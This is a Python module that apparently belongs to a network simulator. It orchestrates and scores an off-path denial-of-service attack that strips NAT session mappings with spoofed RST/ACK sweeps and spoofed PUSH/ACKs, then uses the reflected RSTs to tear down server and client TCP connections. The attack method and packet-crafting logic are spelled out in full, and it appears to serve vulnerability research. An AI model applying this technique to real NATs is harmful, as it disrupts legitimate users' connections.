"""Off-path DoS orchestrator against a NATed public address.

The attack interleaves two blind sweeps: forged RST/ACKs spoofing the
victim server toward every plausible external port of the NAT, and
forged PUSH/ACKs spoofing the NAT toward the server's service port.
On a vulnerable device the RSTs strip the session mappings, the
PUSH/ACKs coax duplicate ACKs out of the server, and the now-unmapped
duplicate ACKs bounce off the NAT as reflected RSTs carrying the exact
sequence numbers that tear the server sockets; the clients die on their
next send.  Packet crafting is a pure function of the plan, so the
attacker never reads victim connection state.

`run_dos_attack` takes a built scenario's `Handles`: the sweeps read only
its plan and attacker node; outcome detection reads the server, the
victims, the clients that attempt new connections and the NAT.
"""

from __future__ import annotations

import contextlib
import random
from dataclasses import dataclass
from enum import Enum
from typing import TYPE_CHECKING

from .endpoint import DEFAULT_EPHEMERAL_RANGE, ConnKey, Host, TcpState
from .fabric import DropClass, derive_rng
from .wire import (
    PSH_ACK,
    PSH_BIT,
    RST_ACK,
    RST_BIT,
    SEQ_MOD,
    Ipv4Datagram,
    Protocol,
    TcpFlag,
    TcpSegment,
    check_port_range,
    check_range,
)

if TYPE_CHECKING:  # `scenario` imports this module
    from .scenario import Handles

# Enum members read per packet: through the class, each read costs several times a global
_TCP = Protocol.TCP
_RST = TcpFlag.RST

WINDOWS_EPHEMERAL = (49152, 65535)
# forged packets one plan may send: 8 rounds of two full 65,536-port sweeps
MAX_FORGED_PACKETS = 1 << 20
# the data bytes of each victim's send after the attack, which completes the teardown
PROBE_PAYLOAD = 16
# the outcome columns of the attack and assessment CSVs, in order
OUTCOME_CSV_COLUMNS = "success,diagnosis,rst,pushack,octets,ticks,bandwidth,torn,blocked"


class StrikeError(Exception):
    pass


class NothingToAttackError(StrikeError):
    """No established victim connection exists through the NAT."""


class FailureDiagnosis(Enum):
    NONE = "none"
    FORWARDED_RST_NO_REMOVAL = "forwarded-rst-no-removal"
    RST_BLOCKED_BY_MIDDLEBOX = "rst-blocked-by-middlebox"
    RST_NOT_ROUTED = "rst-not-routed"
    SWEEP_MISSED_MAPPINGS = "sweep-missed-mappings"
    NO_DUP_ACK_FROM_SERVER = "no-dup-ack-from-server"
    PACKET_LOSS = "packet-loss"


@dataclass(frozen=True)
class AttackPlan:
    nat_public_ip: str
    victim_server: tuple[str, int]
    dst_port_range: tuple[int, int] = DEFAULT_EPHEMERAL_RANGE
    push_ack_src_port_range: tuple[int, int] = DEFAULT_EPHEMERAL_RANGE
    interleave_batch: int = 1024
    rounds: int = 1
    forged_seq: int = 0
    set_ack_flag_on_rst: bool = True
    new_connection_attempts: int = 2
    seed: int = 0
    settle_ticks: int = 60  # after the sweeps, and again after the victims' next sends

    def __post_init__(self):
        check_port_range("dst_port_range", self.dst_port_range)
        check_port_range("push_ack_src_port_range", self.push_ack_src_port_range)
        check_range("interleave_batch", self.interleave_batch, 1)
        check_range("rounds", self.rounds, 1)
        sweeps = (self.dst_port_range, self.push_ack_src_port_range)
        per_round = sum(hi - lo + 1 for lo, hi in sweeps)
        if self.rounds * per_round > MAX_FORGED_PACKETS:
            raise ValueError(
                f"rounds: {self.rounds} rounds of {per_round} forged packets exceed the "
                f"bound of {MAX_FORGED_PACKETS}"
            )
        check_range("forged_seq", self.forged_seq, 0, SEQ_MOD)
        check_range("new_connection_attempts", self.new_connection_attempts, 0)
        check_range("settle_ticks", self.settle_ticks, 0)


@dataclass
class AttackReport:
    rst_packets_sent: int = 0
    push_ack_packets_sent: int = 0
    octets_sent: int = 0
    duration_ticks: int = 0
    implied_bandwidth: float = 0.0  # octets per nominal second
    mappings_removed: int = 0
    server_sockets_reset: int = 0
    client_connections_torn: int = 0
    new_connections_blocked: int = 0
    new_connections_attempted: int = 0
    victim_connections: int = 0
    success: bool = False
    failure_diagnosis: FailureDiagnosis = FailureDiagnosis.NONE

    def csv_row(self, scenario: str, policy: str) -> str:
        return f"{scenario},{policy},{self.outcome_csv()}"

    def outcome_csv(self, status: str | None = None) -> str:
        """The OUTCOME_CSV_COLUMNS values; `status` stands in for the
        success and diagnosis pair."""
        status = status or f"{str(self.success).lower()},{self.failure_diagnosis.value}"
        return (
            f"{status},{self.rst_packets_sent},{self.push_ack_packets_sent},{self.octets_sent},"
            f"{self.duration_ticks},{self.implied_bandwidth:.1f},"
            f"{self.client_connections_torn},{self.new_connections_blocked}"
        )


def craft_rst_sweep(plan: AttackPlan, ports: range | None = None) -> list[Ipv4Datagram]:
    """One forged 40-octet RST per destination port (by default the plan's
    whole range), spoofing the victim server; the sequence number is
    whatever the plan says, because a vulnerable device never checks it."""
    flags = RST_ACK if plan.set_ack_flag_on_rst else _RST
    if ports is None:
        ports = _port_span(plan.dst_port_range)
    server_addr, server_port = plan.victim_server
    return [
        Ipv4Datagram(
            src=server_addr,
            dst=plan.nat_public_ip,
            protocol=_TCP,
            payload=TcpSegment(server_port, port, seq=plan.forged_seq, flags=flags),
        )
        for port in ports
    ]


def craft_push_ack_sweep(
    plan: AttackPlan, ports: range | None = None, rng: random.Random | None = None
) -> list[Ipv4Datagram]:
    """One forged PUSH/ACK per source port (by default the plan's whole
    range), spoofing the NAT toward the server.  Sequence and
    acknowledgment numbers are arbitrary, drawn from `rng` (by default the
    plan's freshly seeded one; a sweep crafted in parts passes the same
    rng to each part); one payload octet makes the segment impossible to
    ignore."""
    if rng is None:
        rng = _push_ack_rng(plan)
    if ports is None:
        ports = _port_span(plan.push_ack_src_port_range)
    server_addr, server_port = plan.victim_server
    return [
        Ipv4Datagram(
            src=plan.nat_public_ip,
            dst=server_addr,
            protocol=_TCP,
            payload=TcpSegment(
                port,
                server_port,
                seq=rng.getrandbits(32),
                ack=rng.getrandbits(32),
                flags=PSH_ACK,
                payload_length=1,
            ),
        )
        for port in ports
    ]


def _push_ack_rng(plan: AttackPlan) -> random.Random:
    return derive_rng(plan.seed, "push-ack", plan.nat_public_ip)


def _port_span(port_range: tuple[int, int]) -> range:
    lo, hi = port_range
    return range(lo, hi + 1)


def _sweep_batches(plan: AttackPlan):
    """The two sweeps in (RSTs, PUSH/ACKs) pairs of up to `interleave_batch`
    packets each, until the longer sweep is spent; a pair is crafted only
    when it is asked for, so a single pass never holds a whole sweep."""
    rst_ports = _port_span(plan.dst_port_range)
    push_ports = _port_span(plan.push_ack_src_port_range)
    rng = _push_ack_rng(plan)
    size = plan.interleave_batch
    for lo in range(0, max(len(rst_ports), len(push_ports)), size):
        cut = slice(lo, lo + size)
        yield craft_rst_sweep(plan, rst_ports[cut]), craft_push_ack_sweep(plan, push_ports[cut], rng)


def run_dos_attack(handles: Handles) -> AttackReport:
    """Drive the interleaved sweeps, then trigger each victim's next send
    and collect the outcome."""
    sim, plan, server, nat = handles.sim, handles.plan, handles.server_host, handles.nat
    victims = [(h, k) for h, k in handles.victims if h.state(k) == TcpState.ESTABLISHED]
    if not victims:
        raise NothingToAttackError("nothing-to-attack")

    report = AttackReport(victim_connections=len(victims))
    batches = _sweep_batches(plan)
    if plan.rounds > 1:
        # every round sends the same packets: holding them costs less than
        # crafting them again; a one-round attack crafts each batch as it goes
        batches = list(batches)
    removed_before = nat.mappings_removed_by_rst
    # only sockets that predate the attack count toward server resets;
    # half-open ghosts from blocked attempts are scored as blocked instead
    standing = {
        k for k, s in server.sockets.items()
        if s.state == TcpState.ESTABLISHED and s.reset_record is None
    }
    dup_acks_before = server.dup_acks_sent
    window_start = sim.now
    evidence: set[str] = set()
    clients = [handles.hosts[c] for c in handles.scenario.clients]

    attempts: list[tuple[Host, ConnKey]] = []
    last_inject = sim.now
    with _watching_evidence(handles, evidence):
        for rnd in range(plan.rounds):
            if rnd == 0:
                for i in range(plan.new_connection_attempts):
                    client = clients[i % len(clients)]
                    attempts.append((client, client.open_connection(sim, plan.victim_server)))
            for rsts, pushes in batches:
                report.rst_packets_sent += len(rsts)
                report.push_ack_packets_sent += len(pushes)
                for batch in (rsts, pushes):
                    sim.inject(handles.attacker_node, *batch)
                    if batch:
                        # every packet of one crafted sweep has the same length
                        report.octets_sent += len(batch) * batch[0].total_length
                        last_inject = sim.now
                    sim.run(until=sim.now + 1)

        report.duration_ticks = last_inject - window_start + 1
        sim.run(until=sim.now + plan.settle_ticks)

        # the victims' own next transmissions complete the teardown chain
        for host, key in victims + attempts:
            if host.state(key) == TcpState.ESTABLISHED:
                host.send_data(sim, key, PROBE_PAYLOAD)
        sim.run(until=sim.now + plan.settle_ticks)

    report.implied_bandwidth = report.octets_sent / (report.duration_ticks * handles.scenario.tick_duration)
    report.mappings_removed = nat.mappings_removed_by_rst - removed_before
    report.server_sockets_reset = sum(1 for k in standing if server.sockets[k].reset_record is not None)
    report.client_connections_torn = sum(
        1 for h, k in victims if h.state(k) == TcpState.CLOSED
    )
    report.new_connections_attempted = len(attempts)
    report.new_connections_blocked = sum(
        1 for h, k in attempts if h.state(k) != TcpState.ESTABLISHED
    )
    report.success = report.client_connections_torn == len(victims) and (
        report.new_connections_blocked == len(attempts)
    )
    if not report.success:
        report.failure_diagnosis = _diagnose(report, evidence, server.dup_acks_sent > dup_acks_before)
    return report


# -- outcome analysis ------------------------------------------------------------


# the drop reasons the diagnosis reads, each with what a forged RST dropped for it shows
_EVIDENCE_DROPS = {
    "loss": "rst-lost",
    "rst-out-of-window": "rst-refused",
    **{f"filtered-{cls.value}": "rst-filtered" for cls in DropClass},
}


def _evidence_watcher(handles: Handles, seen: set[str]):
    """`saw(kind, d)`: add `kind` to `seen` when `d` shows it, and say
    whether `seen` holds it.  "push-at-server" is shown by a PUSH from the
    NAT's address; every other kind by a forged RST, which spoofs the
    server with the plan's sequence number."""
    plan = handles.plan
    server_addr, server_port = plan.victim_server
    forged_seq = plan.forged_seq
    nat_addr = plan.nat_public_ip

    def saw(kind: str, d: Ipv4Datagram) -> bool:
        if kind in seen:
            return True
        seg = d.payload
        if kind == "push-at-server":
            shown = d.src == nat_addr and isinstance(seg, TcpSegment) and int(seg.flags) & PSH_BIT
        else:
            shown = (d.src == server_addr and isinstance(seg, TcpSegment) and seg.seq == forged_seq
                     and seg.src_port == server_port and int(seg.flags) & RST_BIT)
        if shown:
            seen.add(kind)
        return bool(shown)

    return saw


@contextlib.contextmanager
def _watching_evidence(handles: Handles, seen: set[str]):
    """Inside the block, add to `seen` what the attack window shows: "loss"
    for any packet dropped by link loss; for a forged RST, "rst-lost",
    "rst-filtered" and "rst-refused" (dropped out of window by the NAT) by
    its drop reason, "rst-at-nat" when the NAT takes it in and
    "rst-at-client" when a victim client does; "push-at-server" when the
    server takes in a PUSH from the NAT's address.  Only those drops and
    arrivals are watched, each arrival until its kind is seen."""
    saw = _evidence_watcher(handles, seen)

    def on_drop(tick, node, action, reason, d):
        if reason == "loss":
            seen.add("loss")
        saw(_EVIDENCE_DROPS[reason], d)

    def arriving(kind):
        return lambda tick, node, action, reason, d: saw(kind, d)

    sim = handles.sim
    with contextlib.ExitStack() as stack:
        stack.enter_context(sim.watching(on_drop, drops=_EVIDENCE_DROPS))
        for kind, nodes in (("rst-at-nat", [handles.nat.node_id]),
                            ("rst-at-client", {h.node_id for h, _ in handles.victims}),
                            ("push-at-server", [handles.server_host.node_id])):
            stack.enter_context(sim.watching(arriving(kind), arrivals=nodes))
        yield


def _diagnose(report: AttackReport, seen: set[str], dup_acked: bool) -> FailureDiagnosis:
    if report.mappings_removed == 0 and "rst-at-client" in seen:
        return FailureDiagnosis.FORWARDED_RST_NO_REMOVAL
    if "rst-at-nat" not in seen:
        if "rst-filtered" in seen:
            return FailureDiagnosis.RST_BLOCKED_BY_MIDDLEBOX
        if "rst-lost" in seen:
            return FailureDiagnosis.PACKET_LOSS
        # no forged RST was filtered, lost or seen at the NAT: none had a route
        return FailureDiagnosis.RST_NOT_ROUTED
    if report.mappings_removed == 0 and "rst-refused" not in seen:
        # the RSTs reached the NAT, and none matched a mapping to refuse
        return FailureDiagnosis.SWEEP_MISSED_MAPPINGS
    if "push-at-server" in seen and not dup_acked:
        return FailureDiagnosis.NO_DUP_ACK_FROM_SERVER
    if "loss" in seen:
        return FailureDiagnosis.PACKET_LOSS
    return FailureDiagnosis.NONE
